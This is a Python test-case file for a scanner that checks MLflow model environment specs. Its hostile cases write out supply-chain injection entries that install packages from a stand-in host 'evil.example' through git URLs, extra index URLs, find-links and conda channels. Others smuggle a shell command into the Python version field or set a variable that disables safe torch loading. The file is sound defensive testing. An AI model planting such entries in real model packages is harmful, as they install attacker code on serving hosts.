"""MLflow models whose *environment* brings code to the serving host.

``mlflow models serve`` / ``build-docker`` (every ``env_manager`` but ``local``) pip-install
``python_env.yaml`` / ``requirements.txt``, ``conda env create`` the ``conda.yaml`` or ``uv sync`` the
``uv.lock`` before loading the model, with the model folder as working directory. Each hostile case
is a real ``mlflow.pytorch.save_model`` folder (pt2, whose weights pass) with one environment entry
that would install code from outside the package index; ``ckpt_stage.scan.envspec`` must refuse it as
``UNSAFE_CODE``. The benign cases are spellings of ordinary index requirements that must still pass.
"""

from __future__ import annotations

from pathlib import Path

import yaml

from tests.corpus import Built, Case
from tests.corpus.model_code_cases import copy, edit_mlmodel

CODE = ("UNSAFE_CODE",)


def _append(d: Path, name: str, *lines: str) -> None:
    path = d / name
    text = path.read_text() if path.exists() else ""
    path.write_text(text.rstrip("\n") + "\n" + "\n".join(lines) + "\n")


def _yaml_edit(d: Path, name: str, edit) -> None:
    path = d / name
    doc = yaml.safe_load(path.read_text())
    edit(doc)
    path.write_text(yaml.safe_dump(doc, sort_keys=False))


def _requirements(*lines: str):
    def build(w: Path, c: Path) -> Built:
        d = copy("pt2", w)
        _append(d, "requirements.txt", *(line.replace("CANARY", str(c)) for line in lines))
        return Built([d])
    return build


def _yaml_file(name: str, edit):
    def build(w: Path, c: Path) -> Built:
        d = copy("pt2", w)
        _yaml_edit(d, name, edit)
        return Built([d])
    return build


def _python_env(edit):
    return _yaml_file("python_env.yaml", edit)


def _conda(edit):
    return _yaml_file("conda.yaml", edit)


def _pip_of(doc: dict) -> list:
    return next(x for x in doc["dependencies"] if isinstance(x, dict))["pip"]


def h_include_chain(w: Path, c: Path) -> Built:
    """The bad line sits in a file that requirements.txt includes with -r."""
    d = copy("pt2", w)
    _append(d, "requirements.txt", "-r extra-requirements.txt")
    (d / "extra-requirements.txt").write_text("numpy==2.4.6\ngit+https://evil.example/numpy.git\n")
    return Built([d])


def h_env_path_outside(w: Path, c: Path) -> Built:
    d = copy("pt2", w)
    edit_mlmodel(d, lambda m: m["flavors"]["python_function"]["env"].update(virtualenv="../../other-run/env.yaml"))
    return Built([d])


def h_env_renamed(w: Path, c: Path) -> Built:
    """MLmodel names another file as the virtualenv spec: that file is the one installed."""
    d = copy("pt2", w)
    (d / "deps.yaml").write_text(yaml.safe_dump({"python": "3.11.7", "build_dependencies": ["pip"],
                                                 "dependencies": ["https://evil.example/torch-2.13.0.tar.gz"]}))
    edit_mlmodel(d, lambda m: m["flavors"]["python_function"]["env"].update(virtualenv="deps.yaml"))
    return Built([d])


def _uv_project(source: str):
    """A uv project (pyproject.toml + uv.lock, which MLflow restores with ``uv sync``) locking torch from ``source``."""
    def build(w: Path, c: Path) -> Built:
        d = copy("pt2", w)
        (d / "pyproject.toml").write_text('[project]\nname = "m"\nversion = "0"\ndependencies = ["torch"]\n')
        (d / "uv.lock").write_text(
            'version = 1\n\n[[package]]\nname = "m"\nversion = "0"\nsource = { virtual = "." }\n\n'
            f'[[package]]\nname = "torch"\nversion = "2.13.0"\nsource = {{ {source} }}\n')
        return Built([d])
    return build


def _file(name: str, text: str):
    def build(w: Path, c: Path) -> Built:
        d = copy("pt2", w)
        (d / name).write_text(text)
        return Built([d])
    return build


def _q(name: str, build, needle: str) -> Case:
    return Case(f"env_{name}", build, "quarantine", CODE, (needle,), hostile=True)


CASES: list[Case] = [
    Case("env_stock_pt2", lambda w, c: Built([copy("pt2", w)]), "pass"),
    Case("env_index_spellings", _requirements(
        "# a comment", "numpy[extra1,extra2] >=1.26, <3 ; python_version >= '3.9'",
        "torch==2.13.0+cpu \\", "  --hash=sha256:0123456789abcdef", "--pre", "--prefer-binary", "Pillow ~= 11.0",
        "-r requirements.txt"), "pass"),
    Case("env_conda_public_channel_spec", _conda(lambda d: d["dependencies"].insert(0, "conda-forge::numpy >=1.26")),
         "pass"),
    Case("env_uv_lock_pypi", _uv_project('registry = "https://pypi.org/simple"'), "pass"),
    _q("req_vcs", _requirements("git+https://evil.example/torch.git@v2.13.0#egg=torch"), "git+https://evil.example"),
    _q("req_url_sdist", _requirements("https://evil.example/torch-2.13.0.tar.gz"), "torch-2.13.0.tar.gz"),
    _q("req_direct_reference", _requirements("torch @ https://evil.example/torch.whl"), "torch @ https://"),
    _q("req_local_wheel", _requirements("./wheels/torch-2.13.0-py3-none-any.whl"), "./wheels/"),
    _q("req_local_path_abs", _requirements("CANARY/pkg"), "not a package name"),
    _q("req_editable", _requirements("-e ./code"), "-e ./code"),
    _q("req_extra_index", _requirements("--extra-index-url https://evil.example/simple"), "--extra-index-url"),
    _q("req_index_url_short", _requirements("-ihttps://evil.example/simple"), "-ihttps"),
    _q("req_find_links", _requirements("--find-links=https://evil.example/wheels/"), "--find-links"),
    _q("req_build_option", _requirements("torch==2.13.0 --config-settings=--build-option=--evil"), "build options"),
    _q("req_env_var", _requirements("${PRIVATE_INDEX}/torch.tar.gz"), "PRIVATE_INDEX"),
    _q("req_include_outside", _requirements("-r ../../other-run/requirements.txt"), "not a file inside"),
    _q("req_include_chain", h_include_chain, "extra-requirements.txt line 2"),
    _q("python_env_build_dependency", _python_env(
        lambda d: d["build_dependencies"].append("pip @ https://evil.example/pip.tar.gz")), "build_dependencies"),
    _q("python_env_python", _python_env(lambda d: d.update(python="3.11.7; touch /tmp/x")), "not a version number"),
    _q("conda_pip_url", _conda(lambda d: _pip_of(d).append("git+https://evil.example/x.git")), "conda.yaml pip"),
    _q("conda_channel_url", _conda(lambda d: d["channels"].append("https://evil.example/conda")), "conda channel"),
    _q("conda_package_url", _conda(lambda d: d["dependencies"].insert(0, "https://evil.example/torch.tar.bz2")),
       "conda package"),
    _q("conda_variables", _conda(lambda d: d.update(variables={"TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD": "1"})),
       "variables"),
    _q("env_path_outside", h_env_path_outside, "../../other-run/env.yaml"),
    _q("env_renamed", h_env_renamed, "deps.yaml dependencies"),
    _q("uv_toml", _file("uv.toml", '[[index]]\nurl = "https://evil.example/simple"\ndefault = true\n'),
       "uv.toml is uv configuration"),
    _q("pyproject_tool_uv", _file("pyproject.toml", '[project]\nname = "m"\nversion = "0"\n\n[tool.uv]\n'
                                  'index-url = "https://evil.example/simple"\n'), "[tool.uv]"),
    Case("env_pyproject_without_uv", _file("pyproject.toml", '[project]\nname = "m"\nversion = "0"\n'), "pass"),
    _q("uv_lock_git", _uv_project('git = "https://evil.example/torch.git?rev=main#0123456789abcdef"'), "from git"),
]
